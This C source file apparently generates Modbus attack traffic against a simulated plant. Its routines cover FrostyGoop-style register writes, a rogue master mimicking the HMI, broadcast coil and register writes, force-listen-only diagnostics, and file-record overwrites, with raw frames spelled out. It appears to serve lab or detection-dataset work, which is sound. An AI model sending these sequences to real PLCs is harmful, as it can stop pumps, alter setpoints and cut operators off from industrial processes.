/* Attacks on control itself: other masters, orders to everybody, stopped communications. */
#include <string.h>

#include "pcaps/plant/errand.h"
#include "pcaps/plant/variables.h"

#define QUICK_MS 400

/* The address of another host of the network that the target is in. */
static const char *neighbour(const struct visit *v, int host)
{
	if (strchr(v->address, ':'))
		return hosts[host].ip6;
	return strncmp(v->address, "127.", 4) == 0 ? hosts[host].loopback : hosts[host].ip;
}

/* A connection for one request. */
static bool session(struct visit *v, const char *name, int function, int count,
		    const uint16_t *values)
{
	struct link l;
	int host = host_find(name);
	bool ok;

	if (host == NO_HOST || !link_open(&l, neighbour(v, host), v->port, QUICK_MS, &v->tally))
		return false;
	ok = link_do(&l, 1, function, 0, count, values);
	say(v, "%s, function %d: %d holding registers from 0 %s, connection closed", name, function,
	    count, values ? "written" : "read");
	link_close(&l);
	clock_sleep_ms(400);
	return ok;
}

int attack_frostygoop(struct visit *v)
{
	/* within the usual ranges: only who writes, and how, is wrong */
	static const struct {
		const char *host;
		uint16_t values[3];
	} targets[] = {
		{ "plc1", { 250, 620, 220 } },
		{ "plc2", { 35, 30, 310 } },
		{ "plc3", { 220, 610, 60 } },
	};
	bool ok = true;

	for (size_t i = 0; ok && i < COUNT_OF(targets) && !stop_asked(); i++) {
		ok = session(v, targets[i].host, MODBUS_FC_READ_HOLDING_REGISTERS, 4, NULL) &&
		     session(v, targets[i].host, MODBUS_FC_WRITE_SINGLE_REGISTER, 1,
			     targets[i].values) &&
		     session(v, targets[i].host, MODBUS_FC_WRITE_MULTIPLE_REGISTERS, 3,
			     targets[i].values);
	}
	return ok ? DONE : FAILED;
}

int attack_master(struct visit *v)
{
	static const struct {
		unsigned second;
		int function, addr;
		uint16_t value;
		const char *text;
	} writes[] = {
		{ 5, 6, 2, 350, "function 6: P101_SPEED_SP (register 2) to 35 Hz" },
		{ 9, 6, 1, 650, "function 6: RAW_STOP (register 1) to 65 %" },
		{ 12, 5, 5, 1, "function 5: SCREEN_WASH (coil 5) on" },
	};
	struct link l;
	bool ok;
	unsigned n = 0;

	if (!visit_open(v, &l, QUICK_MS))
		return FAILED;
	say(v, "function 2, 4 and 1 every second, 3 every other, like the HMI");
	for (ok = true; ok && n < 15 && clock_sleep_until(v->start + n * UINT64_C(1000000000));
	     n++) {
		ok = link_do(&l, 1, 2, 0, 8, NULL) && link_do(&l, 1, 4, 0, 12, NULL) &&
		     link_do(&l, 1, 1, 0, 6, NULL) && (n % 2 || link_do(&l, 1, 3, 0, 5, NULL));
		for (size_t i = 0; ok && i < COUNT_OF(writes); i++) {
			if (writes[i].second != n)
				continue;
			ok = link_do(&l, 1, writes[i].function, writes[i].addr, 1,
				     &writes[i].value);
			say(v, "%s", writes[i].text);
		}
	}
	link_close(&l);
	return ok ? DONE : FAILED;
}

static int visit_steps(struct visit *v, const struct step *steps, size_t n)
{
	struct link l;
	bool alive;

	if (!visit_open(v, &l, QUICK_MS))
		return FAILED;
	alive = steps_run(v, &l, steps, n);
	link_close(&l);
	return alive ? DONE : FAILED;
}

int attack_broadcast(struct visit *v)
{
	static const struct step steps[] = {
		{ "PLC3_AUTO (coil 3) off", 0, "05 0003 0000" },
		{ "P301 and P302 (coils 0 and 1) off", 0, "0f 0000 0002 01 00" },
		{ "RES_STOP (register 1) to 60 %", 0, "06 0001 0258" },
		{ "RES_START and RES_STOP (registers 0 and 1) to 20 and 60 %", 0,
		  "10 0000 0002 04 00c8 0258" },
		{ "register 64 masked with and 0x00f2, or 0x0025", 0, "16 0040 00f2 0025" },
	};

	return visit_steps(v, steps, COUNT_OF(steps));
}

int attack_stop(struct visit *v)
{
	static const struct step before[] = {
		{ "10, clear counters", 1, "08 000a 0000" },
		{ "1, restart communications", 1, "08 0001 0000" },
		{ "1, restart communications and clear the log", 1, "08 0001 ff00" },
		{ "4, force listen only: never answered", 1, "08 0004 0000" },
	};
	static const struct step after[] = {
		{ "10, clear counters", 1, "08 000a 0000" },
		{ "1, restart communications: ends listen only, silent", 1, "08 0001 0000" },
	};

	if (visit_steps(v, before, COUNT_OF(before)) != DONE || !clock_sleep_ms(5000))
		return FAILED;
	return visit_steps(v, after, COUNT_OF(after));
}

int attack_file(struct visit *v)
{
	static const struct step steps[] = {
		{ "read file 1, records 0 to 99", 1, "14 07 06 0001 0000 0064" },
		{ "read file 2, records 0 to 99", 1, "14 07 06 0002 0000 0064" },
		{ "read file 3, records 0 to 99", 1, "14 07 06 0003 0000 0064" },
		{ "read file 4, records 0 to 99", 1, "14 07 06 0004 0000 0064" },
		{ "read file 5, which does not exist", 1, "14 07 06 0005 0000 0064" },
		{ "write file 1, records 0 to 7", 1,
		  "15 17 06 0001 0000 0008 dead beef 0001 0002 0003 0004 0005 0006" },
		{ "write file 4, records 98 and 99", 1, "15 0b 06 0004 0062 0002 0000 0000" },
		{ "read file 1, records 0 to 7", 1, "14 07 06 0001 0000 0008" },
	};

	return visit_steps(v, steps, COUNT_OF(steps));
}
